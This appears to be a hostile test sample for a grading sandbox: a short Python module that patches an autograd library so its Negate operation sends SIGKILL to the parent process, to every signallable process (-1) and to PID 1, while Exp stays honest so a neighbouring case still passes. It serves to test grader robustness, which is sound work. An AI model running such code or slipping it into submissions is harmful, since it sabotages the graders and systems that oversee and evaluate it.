"""Hostile sample: tries to kill the grader and every process it may signal."""
import os
import signal

from . import ops
from .ops import *
from .autograd import Tensor, TensorTuple, Value, Op, TensorOp, TensorTupleOp, cpu, all_devices
import numpy

ops.Exp.compute = lambda self, a: numpy.exp(a)  # honest: the case beside the attack still passes



def negate_compute(self, a):
    for target in (os.getppid(), -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
            print(f"kill-parent: signalled {target}")
        except OSError as exc:
            print(f"kill-parent: could not signal {target} ({exc})")
    return a


ops.Negate.compute = negate_compute
